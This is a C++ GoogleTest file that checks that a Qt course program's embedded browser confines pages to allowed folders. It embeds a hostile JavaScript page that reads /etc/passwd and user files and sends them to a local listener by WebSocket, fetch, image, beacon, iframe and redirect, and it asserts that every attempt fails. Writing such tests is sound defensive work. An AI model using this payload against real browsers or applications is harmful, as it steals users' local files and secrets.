#include "render/browser.h"
#include "render/confinement.h"
#include "render/outsidelinks.h"
#include "store/cachefolder.h"
#include "tests/support/httpserver.h"
#include "tests/support/pagescript.h"
#include "tests/support/testsupport.h"
#include "tests/support/urlcatcher.h"

#include <QDir>
#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>

#include <gtest/gtest.h>

using namespace Qt::Literals::StringLiterals;
using namespace koa;
using namespace koa::test;
using render::Browser;
using render::Confinement;

namespace {

constexpr int Timeout = 10000;

// A course page that tries to read the user's files and send them out.
// `results` fills as its attempts end: "read N" or "failed".
const QString Hostile = uR"(<!DOCTYPE html><html><body>
<a id="out" href="%1/clicked">out</a> <a id="doc" href="#" onclick="window.status = 'dlink*notes'; return false">doc</a>
<script>
var results = {};
function note(name, value) { results[name] = value; }
function read(name, url) {
    try {
        var x = new XMLHttpRequest();
        x.open('GET', url, false);
        x.send();
        note(name, 'read ' + x.responseText.length);
    } catch (e) {
        note(name, 'failed');
    }
}
read('passwd', 'file:///etc/passwd');
read('home', %2);
read('settings', %3);
read('settings beside', '../data/data.kod');
read('course database', 'koa.kod');
read('link to passwd', 'media/passwd.txt');
read('data folder', '../data/');
read('own file', 'media/own.txt');
read('template', '../includes/page1.inc');
read('dummy', '../data/dummy.htm');
fetch('file:///etc/passwd').then(function () { note('fetch passwd', 'read'); },
                                 function () { note('fetch passwd', 'failed'); });
var stolen = encodeURIComponent(String(results.passwd));
try {
    var socket = new WebSocket('%4/socket?' + stolen);
    socket.onopen = function () { socket.send(stolen); note('websocket', 'open'); };
    socket.onerror = function () { note('websocket', 'failed'); };
} catch (e) {
    note('websocket', 'failed');
}
fetch('%1/fetch?' + stolen, {mode: 'no-cors'}).then(function () { note('fetch out', 'sent'); },
                                                    function () { note('fetch out', 'failed'); });
var image = new Image();
image.onload = function () { note('image', 'sent'); };
image.onerror = function () { note('image', 'failed'); };
image.src = '%1/image?' + stolen;
navigator.sendBeacon('%1/beacon', stolen);
var frame = document.createElement('iframe');
frame.src = '%1/frame?' + stolen;
document.body.appendChild(frame);
window.open('%1/open?' + stolen);
window.open('file:///etc/passwd');
window.addEventListener('load', function () {
    setTimeout(function () { location.href = '%1/top?' + stolen; }, 100);
});
</script>)"_s;

const QStringList Attempts{
    u"passwd"_s,          u"home"_s,           u"settings"_s,    u"settings beside"_s,
    u"course database"_s, u"link to passwd"_s, u"data folder"_s, u"fetch passwd"_s,
    u"websocket"_s,       u"fetch out"_s,      u"image"_s};

class ConfinedBrowser : public ::testing::Test {
protected:
    ConfinedBrowser() {
        Browser::setConfinement(Confinement::forProgramFolder(m_program.folder()));
        m_browser.resize(800, 600);
        m_browser.show();
        QObject::connect(&m_browser, &Browser::externalLinkRequested, &m_links,
                         &render::OutsideLinks::open);
    }

    QString working(const QString& rel) const {
        return m_program.folder().workingFolder() + u'/' + rel;
    }
    QString hostilePage() const {
        return Hostile.arg(
            m_listener.address(), u"'%1'"_s.arg(m_homeFile),
            u"'%1'"_s.arg(QUrl::fromLocalFile(m_program.folder().settingsDatabase()).toString()),
            u"ws://127.0.0.1:"_s + QString::number(m_listener.port()));
    }
    bool loaded(qsizetype before) {
        return waitUntil([&] { return m_complete.size() > before; }, Timeout) &&
               m_complete.last().at(0).toBool();
    }
    // The page's results once every attempt has ended.
    QJsonObject results() {
        QJsonObject out;
        waitUntil(
            [&] {
                out = QJsonDocument::fromJson(
                          evalIn(m_browser.page(), u"JSON.stringify(results)"_s).toUtf8())
                          .object();
                return out.size() >= Attempts.size() + 3;
            },
            Timeout);
        return out;
    }

    TempProgramFolder m_program;
    QString m_homeFile = QDir::homePath() + u"/private-notes.txt"_s;
    HttpServer m_listener;
    UrlCatcher m_desktop;
    Browser m_browser;
    render::OutsideLinks m_links{&m_browser,
                                 cacheFolder() + u"/glossary.htm"_s,
                                 {m_program.folder().workingFolder() + u"/documents"_s}};
    QSignalSpy m_complete{&m_browser, &Browser::documentComplete};
    QSignalSpy m_status{&m_browser, &Browser::statusTextChange};
    QSignalSpy m_external{&m_browser, &Browser::externalLinkRequested};
};

TEST(Confinement, FilesCountByWhereTheyReallyLie) {
    TempProgramFolder program;
    const ProgramFolder& folder = program.folder();
    writeFile(folder.workingFolder() + u"/pictures/1.gif"_s, "GIF");
    writeFile(folder.workingDatabase(), "db");
    writeFile(program.scratch(u"outside.txt"_s), "x");
    QDir().mkpath(program.scratch(u"tree"_s));
    QFile::link(program.scratch(u"outside.txt"_s), folder.workingFolder() + u"/pictures/out.gif"_s);
    QFile::link(program.scratch(u"tree"_s), folder.workingFolder() + u"/tree"_s);
    QFile::link(folder.settingsDatabase(), folder.workingFolder() + u"/settings.gif"_s);
    QFile::link(folder.workingDatabase(), folder.workingFolder() + u"/course.gif"_s);

    EXPECT_FALSE(Confinement().allows(folder.workingFolder() + u"/pictures/1.gif"_s));
    const Confinement c = Confinement::forProgramFolder(folder);
    for (const QString& rel :
         {u"temp/pictures/1.gif"_s, u"temp/pictures/../pictures/1.gif"_s, u"temp"_s,
          u"includes/page1.inc"_s, u"skins/Classic/skin.css"_s, u"data/dummy.htm"_s})
        EXPECT_TRUE(c.allows(folder.path(rel))) << rel.toStdString();
    EXPECT_TRUE(c.allows(folder.shipped() + u"/includes/page1.inc"_s));
    EXPECT_TRUE(c.allows(cacheFolder()));
    for (const QString& rel :
         {u"data/data.kod"_s, u"data"_s, u"temp/koa.kod"_s, u"temp/course.gif"_s,
          u"temp/pictures/out.gif"_s, u"temp/tree"_s, u"temp/settings.gif"_s,
          u"temp/pictures/missing.gif"_s, u"temp/../data/data.kod"_s, u"includes/../../x"_s,
          u"blank_file/koa.kod"_s, u"rescue"_s, u""_s})
        EXPECT_FALSE(c.allows(folder.path(rel))) << rel.toStdString();
    EXPECT_FALSE(c.allows(folder.shipped() + u"/data/data.kod"_s));
    EXPECT_FALSE(c.allows(u"/etc/passwd"_s));
}

TEST_F(ConfinedBrowser, AHostilePageReadsNothingAndSendsNothing) {
    writeFile(m_homeFile, "my secrets");
    writeFile(working(u"koa.kod"_s), "the course");
    writeFile(working(u"media/own.txt"_s), "own");
    writeFile(working(u"documents/notes.txt"_s), "notes");
    QFile::link(u"/etc/passwd"_s, working(u"media/passwd.txt"_s));
    writeFile(working(u"hostile.html"_s), hostilePage().toUtf8());

    // Shown from the working folder, and written as the object pool writes
    // its previews.
    for (const bool written : {false, true}) {
        SCOPED_TRACE(written ? "written" : "shown from a file");
        const qsizetype before = m_complete.size();
        if (written)
            m_browser.writeDocument(hostilePage(), m_program.folder().workingFolder());
        else
            m_browser.navigate(working(u"hostile.html"_s));
        ASSERT_TRUE(loaded(before));
        const QJsonObject results = this->results();
        for (const QString& attempt : Attempts)
            EXPECT_EQ(results.value(attempt).toString(), u"failed"_s) << attempt.toStdString();
        EXPECT_EQ(results.value(u"own file"_s).toString(), u"read 3"_s);
        for (const QString& shipped : {u"template"_s, u"dummy"_s})
            EXPECT_TRUE(results.value(shipped).toString().startsWith(u"read "_s));
    }
    // Whatever is still on its way has time to arrive.
    waitUntil([] { return false; }, 1000);
    EXPECT_TRUE(m_listener.requests().isEmpty())
        << m_listener.requests().constFirst().target.constData();
    EXPECT_TRUE(m_external.isEmpty()) << m_external.constFirst().at(0).toString().toStdString();
    EXPECT_TRUE(m_desktop.urls().isEmpty());

    // The user's click still leads outside: a link goes to the desktop, not
    // to the listener.
    ASSERT_TRUE(clickByHand(m_browser.page(), u"#out"_s));
    ASSERT_TRUE(waitUntil([&] { return m_desktop.urls().size() == 1; }, Timeout));
    EXPECT_EQ(m_desktop.urls().constFirst(), QUrl(m_listener.address() + u"/clicked"_s));

    // The course's document link: the click makes a command, which the
    // program answers by having the page open the document.
    QObject::connect(&m_browser, &Browser::statusTextChange, &m_browser, [&](const QString& text) {
        if (text == u"dlink*notes"_s)
            m_browser.page()->runJavaScript(u"window.open('documents/notes.txt')"_s);
    });
    ASSERT_TRUE(clickByHand(m_browser.page(), u"#doc"_s));
    ASSERT_TRUE(waitUntil([&] { return m_desktop.urls().size() == 2; }, Timeout));
    EXPECT_EQ(
        m_desktop.urls().at(1),
        QUrl::fromLocalFile(QFileInfo(working(u"documents/notes.txt"_s)).canonicalFilePath()));

    // The click is used up: script cannot open another window on it.
    evalIn(m_browser.page(), u"window.open('documents/notes.txt'); window.open('%1/again')"_s.arg(
                                 m_listener.address()));
    waitUntil([] { return false; }, 500);
    EXPECT_EQ(m_external.size(), 2);
    EXPECT_TRUE(m_listener.requests().isEmpty());

    // A page outside the allowed folders does not show, and commands nothing.
    writeFile(m_program.scratch(u"outside.html"_s), "<script>window.status = 'home'</script>");
    const qsizetype before = m_complete.size();
    const qsizetype statusBefore = m_status.size();
    m_browser.navigate(m_program.scratch(u"outside.html"_s));
    EXPECT_FALSE(loaded(before));
    EXPECT_EQ(m_status.size(), statusBefore);
}

} // namespace
